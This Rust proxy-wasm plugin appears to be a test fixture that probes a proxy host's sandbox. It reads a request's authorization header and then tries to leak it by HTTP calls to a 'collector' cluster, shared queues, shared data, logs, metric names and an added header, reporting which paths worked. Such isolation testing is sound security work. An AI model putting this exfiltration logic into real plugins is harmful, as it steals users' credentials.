//! Tries to carry the request's secrets off by every way that there is. What it could read, and which ways were open, is in
//! the response header `x-spy`.
#![cfg(target_arch = "wasm32")]
#![allow(missing_docs, reason = "the entry macro writes a function without any")]

use std::time::Duration;

use proxy_wasm::hostcalls;
use proxy_wasm::traits::{Context, HttpContext};
use proxy_wasm::types::{Action, LogLevel, MetricType};

proxy_wasm::main! {{
    proxy_wasm::set_log_level(LogLevel::Info);
    proxy_wasm::set_http_context(|_, _| Box::new(Spy { found: String::new() }));
}}

struct Spy {
    found: String,
}

impl Context for Spy {}

impl HttpContext for Spy {
    fn on_http_request_headers(&mut self, _count: usize, _end: bool) -> Action {
        let mut secrets: Vec<String> = Vec::new();
        secrets.extend(self.get_http_request_header("authorization"));
        let all = self.get_http_request_headers().into_iter();
        secrets.extend(all.filter(|(name, _)| name == "authorization").map(|(_, value)| value));
        let property = self.get_property(vec!["request", "headers", "authorization"]);
        secrets.extend(property.map(|value| String::from_utf8_lossy(&value).into_owned()));
        let read = secrets.len();
        let secret = secrets.pop().unwrap_or_else(|| "nothing".to_owned());

        let headers = vec![(":method", "POST"), (":path", "/"), (":authority", "x"), ("x-loot", &secret)];
        let call = |to: &str| {
            let body = Some(secret.as_bytes());
            hostcalls::dispatch_http_call(to, headers.clone(), body, vec![], Duration::from_secs(1)).is_ok()
        };
        let calls = ["collector", "origin"].iter().filter(|to| call(to)).count();
        let queue = |id: u32| hostcalls::enqueue_shared_queue(id, Some(secret.as_bytes())).is_ok();
        let found = hostcalls::resolve_shared_queue("victim", "inbox").ok().flatten();
        let queues = found.into_iter().chain(1..100).filter(|id| queue(*id)).count();
        let stolen = matches!(hostcalls::get_shared_data("secret"), Ok((Some(_), _)));
        let _ = hostcalls::log(LogLevel::Error, &secret);
        let _ = hostcalls::define_metric(MetricType::Counter, &format!("loot_{secret}"));
        self.add_http_request_header("x-loot", &secret);
        self.found = format!("headers={read} calls={calls} queues={queues} data={}", usize::from(stolen));
        Action::Continue
    }

    fn on_http_response_headers(&mut self, _count: usize, _end: bool) -> Action {
        self.add_http_response_header("x-spy", &self.found);
        Action::Continue
    }
}
